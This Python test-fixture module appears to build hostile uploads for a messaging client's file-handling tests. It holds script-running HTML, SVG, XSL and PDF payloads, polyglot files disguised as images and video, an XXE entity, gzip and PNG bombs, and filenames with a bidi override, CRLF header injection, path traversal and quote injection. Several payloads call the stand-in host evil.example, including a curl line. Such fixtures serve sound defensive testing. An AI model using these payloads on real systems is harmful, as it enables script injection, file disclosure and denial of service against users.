"""Files that want to run, to lie about what they are, or to be too large, and how they are sent."""

from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from typing import NamedTuple

EVIL = "https://evil.example/ran"
#: What all of them want to run; each way leaves a trace that a test can see.
JS = f"localStorage.ran=1;document.title='ran';alert('ran');fetch('/ran');new Image().src='{EVIL}'"
HTML = (
    f"<!doctype html><html><body onload=\"{JS}\"><script>{JS}</script><img src='{EVIL}'>"
    f"<meta http-equiv=refresh content='0;url=/ran'><iframe src='{EVIL}'></iframe></body></html>"
).encode()
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script>'
    f'<image href="{EVIL}"/><foreignObject><iframe src="{EVIL}"/></foreignObject></svg>'
).encode()
XML = b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?>'
XSL = (
    XML + b'<x:stylesheet id="x" version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform">'
    b'<x:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">'
    + JS.encode()
    + b"</script></x:template></x:stylesheet>"
)
XHTML = (
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>%s</script></html>'
)
ENTITY = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "%s">]><a>&b;</a>' % EVIL.encode()
PDF = (
    b"%%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
    b"/AA<</O<</S/URI/URI(%s)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n"
) % EVIL.encode()
MHT = (
    b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"
    b"Content-Type: text/html\n\n%s\n--b--\n"
) % HTML
WASM = b"\x00asm\x01\x00\x00\x00"
FTYP = b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"
MATROSKA = b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08\x42\x82\x84webm"
MANIFEST = json.dumps({"start_url": "/ran", "scope": "/", "icons": [{"src": EVIL}]}).encode()
BIDI, BREAK, UP = "\u202egpj.exe", "a\r\nSet-Cookie: x=1\r\n\r\n<script>", "../../../etc/passwd"
QUOTES = "\";filename=evil.html;x='<img src=x onerror=alert(1)>.html"


class Hostile(NamedTuple):
    """A file, what its sender calls it, and the place in a message that he has chosen for it."""

    data: bytes
    name: str
    mime: str
    #: ``photo``, or the role of a document.
    role: str = "file"


def png(width: int, height: int, pixels: bytes = b"", *chunks: tuple[bytes, bytes]) -> bytes:
    """A PNG of claimed measures, with these pixels and further chunks."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    found = [(b"IHDR", head), *chunks, (b"IDAT", zlib.compress(pixels)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in found
    )


def zipped(name: str, data: bytes) -> bytes:
    """A ZIP with one file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def lottie(**more: object) -> bytes:
    """An animation of 60 frames as Telegram packs it."""
    whole = {"tgs": 1, "v": "5.5", "fr": 60, "ip": 0, "op": 60, "w": 512, "h": 512, "layers": []}
    return gzip.compress(json.dumps(whole | more).encode(), mtime=0)


def _expression() -> dict[str, object]:
    """A layer whose place is a program, for players that would run it."""
    value = {"a": 0, "k": [0, 0, 0], "x": f"var $bm_rt; {JS}; $bm_rt = [0, 0]"}
    return {
        "ty": 4, "ip": 0, "op": 60, "st": 0, "nm": HTML.decode(), "shapes": [],
        "ks": {"p": value, "a": value, "s": {"a": 0, "k": [100, 100]}, "o": {"a": 0, "k": 100}},
    }  # fmt: skip


def _outside() -> dict[str, object]:
    return {"id": "i", "w": 5, "h": 5, "u": "https://evil.example/", "p": "ran.png", "e": 0}


_OUTSIDE = [{"ty": 2, "refId": "i", "ip": 0, "op": 60, "st": 0, "ks": {}}]
_FONT = {"origin": 3, "fPath": EVIL, "fFamily": "x", "fName": "x", "fStyle": "x", "ascent": 1}
_FONTS = {"list": [_FONT, _FONT | {"origin": 1, "fName": "y"}]}
_TEXT = [{"ty": 5, "ip": 0, "op": 60, "st": 0, "ks": {}, "t": {"d": {"k": []}}}]
_GIF = b"GIF89a/*" + b"\x01\x00\x00\x00\x00*/=1;"
_JPEG = b"\xff\xd8\xff\xe0\x2f\x2aJFIF\x00\x01"
_COMMENT = (b"tEXt", b"Comment\x00" + HTML)

FILES = (
    Hostile(HTML, "photo.jpg", "image/jpeg", "photo"),
    Hostile(HTML, "page.html", "text/html"),
    Hostile(b"\xef\xbb\xbf" + HTML, "marked.htm", "text/html"),
    Hostile(HTML.decode().encode("utf-16"), "wide.html", "text/html; charset=utf-16"),
    Hostile(b"+ADw-script+AD4-" + JS.encode(), "seven.html", "text/html; charset=utf-7"),
    Hostile(b" " * 5000 + HTML, "late.html", "text/plain"),
    Hostile(b"<!--" + b"-" * 9000 + b"-->" + HTML, "video.mp4", "video/mp4", "video"),
    Hostile(SVG, "drawing.svg", "image/svg+xml"),
    Hostile(SVG, "sticker.webp", "image/webp", "sticker"),
    Hostile(SVG, "photo.png", "image/png", "photo"),
    Hostile(gzip.compress(SVG, mtime=0), "drawing.svgz", "image/svg+xml", "sticker"),
    Hostile(XSL, "sheet.xml", "text/xml"),
    Hostile(XHTML % JS.encode(), "page.xhtml", "application/xhtml+xml"),
    Hostile(ENTITY, "entity.xml", "application/xml"),
    Hostile(_GIF + JS.encode(), "dot.gif", "image/gif", "animation"),
    Hostile(_GIF + JS.encode(), "dot.js", "text/javascript"),
    Hostile(_JPEG + HTML, "both.jpg", "image/jpeg", "photo"),
    Hostile(PDF + HTML, "both.pdf", "application/pdf"),
    Hostile(PDF, "acts.pdf", "application/pdf"),
    Hostile(zipped("index.html", HTML) + HTML, "both.zip", "text/html"),
    Hostile(zipped("META-INF/MANIFEST.MF", b"Main-Class: X"), "both.jar", "text/html"),
    Hostile(gzip.compress(b'{"tgs":1,"layers":[' + bytes(64 << 20), mtime=0), "bomb.tgs",
            "application/x-tgsticker", "sticker"),
    Hostile(lottie()[:-9], "broken.tgs", "application/x-tgsticker", "sticker"),
    Hostile(gzip.compress(b'{"tgs":1,"layers":[{]}', mtime=0), "wrong.tgs",
            "application/x-tgsticker", "sticker"),
    Hostile(lottie(layers=[_expression()]), "program.tgs", "application/x-tgsticker", "sticker"),
    Hostile(lottie(assets=[_outside()], layers=_OUTSIDE), "outside.tgs",
            "application/x-tgsticker", "sticker"),
    Hostile(lottie(fonts=_FONTS, layers=_TEXT), "font.tgs", "application/x-tgsticker", "sticker"),
    Hostile(lottie(w=1e9, h=1e9, layers=[{"ty": 99}]), "vast.tgs", "application/x-tgsticker",
            "sticker"),
    Hostile(FTYP + HTML, "film.mp4", "video/mp4", "video"),
    Hostile(FTYP + HTML, "round.mp4", "text/html", "round_video"),
    Hostile(MATROSKA + HTML, "film.webm", "video/webm", "animation"),
    Hostile(b"OggS" + bytes(24) + b"OpusHead" + HTML, "voice.ogg", "text/html", "voice"),
    Hostile(b"ID3\x03\x00\x00\x00\x00\x00\x00" + HTML, "song.mp3", "audio/mpeg", "audio"),
    Hostile(b"RIFF\xff\xff\xff\xffWEBPVP8 " + HTML, "sticker.webp", "image/webp", "sticker"),
    Hostile(png(65_000, 65_000), "vast.png", "image/png", "photo"),
    Hostile(png(30_000, 30_000, bytes(90_001)), "bomb.png", "image/png", "photo"),
    Hostile(png(1, 1, b"\x00\xff\x00\x00", _COMMENT), "comment.png", "text/html", "photo"),
    Hostile(b"\x00\x00\x01\x00\x01\x00" + HTML, "sign.ico", "image/x-icon"),
    Hostile(b"BM" + bytes(8) + HTML, "picture.bmp", "image/bmp", "photo"),
    Hostile(b"CWS\x0a" + HTML, "film.swf", "application/x-shockwave-flash"),
    Hostile(MHT, "saved.mht", "message/rfc822"),
    Hostile(MANIFEST, "app.webmanifest", "application/manifest+json"),
    Hostile(f"@import '{EVIL}';*{{background:url('{EVIL}')}}".encode(), "look.css", "text/css"),
    Hostile(f"{JS};self.onfetch=()=>{{}}".encode(), "worker.js", "application/javascript"),
    Hostile(WASM, "code.wasm", "application/wasm"),
    Hostile(b"[InternetShortcut]\r\nURL=" + EVIL.encode(), "site.url", "text/x-uri"),
    Hostile(b"#!/bin/sh\ncurl " + EVIL.encode(), "run.desktop", "application/x-desktop"),
    Hostile(b"MZ" + HTML, BIDI, "image/jpeg"),
    Hostile(HTML, BREAK, "text/html\r\nX-Evil: 1"),
    Hostile(b"root:x:0:0", UP, "text/plain"),
    Hostile(HTML, QUOTES, "text/html"),
    Hostile(b"", "empty.html", "text/html"),
    Hostile(b"\x00" + HTML, "zero\x00.html", "text/html"),
    Hostile(HTML, "x" * 5000 + ".html", "text/html"),
)  # fmt: skip
